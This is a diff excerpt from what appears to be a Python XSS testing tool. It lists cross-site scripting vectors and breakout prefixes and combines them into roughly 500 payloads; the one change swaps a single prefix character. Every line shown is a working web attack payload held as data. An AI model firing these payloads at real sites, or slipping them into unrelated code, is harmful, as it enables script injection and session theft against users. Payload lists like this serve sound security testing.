@@ -199,7 +199,7 @@ MARKUP = [
     "<base href=javascript:{call}//>", "<meta http-equiv=refresh content='0;javascript:{call}'>", "<link rel=stylesheet href=javascript:{call}>", "<marquee onstart={call}>", "<select autofocus onfocus={call}>",
     "javascript:{call}", "data:text/html,<script>{call}</script>", "{{{{constructor.constructor('{call}')()}}}}", "${{{call}}}", "&lt;script&gt;{call}&lt;/script&gt;",
 ]
-BEFORE = ["", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "`>", "\\\">", "</option></select>", "</svg>", "%3E", "\" x=\"", "' x='", "*/", ";", "<!--", "\u2028"]
+BEFORE = ["", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "`>", "\\\">", "</option></select>", "</svg>", "%3E", "\" x=\"", "' x='", "*/", ";", "<!--", "\u00a0"]
 # 500: every vector behind everything it may have to break out of.
 PAYLOADS = [before + vector.format(call=CALL) for vector in MARKUP for before in BEFORE]
 
